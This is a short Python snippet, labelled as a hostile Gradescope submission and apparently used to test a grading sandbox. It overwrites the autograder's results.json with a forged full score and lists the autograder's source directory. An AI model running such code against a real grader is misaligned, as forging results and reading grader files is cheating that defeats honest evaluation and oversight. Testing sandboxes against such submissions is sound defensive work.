# hostile (Gradescope): writes its own results.json with full marks, and reads the autograder's source
import os
try:
    with open("/autograder/results/results.json", "w") as f:
        f.write('{"score": 10, "output": "forged", "tests": []}')
finally:
    print(os.listdir("/autograder/source"))
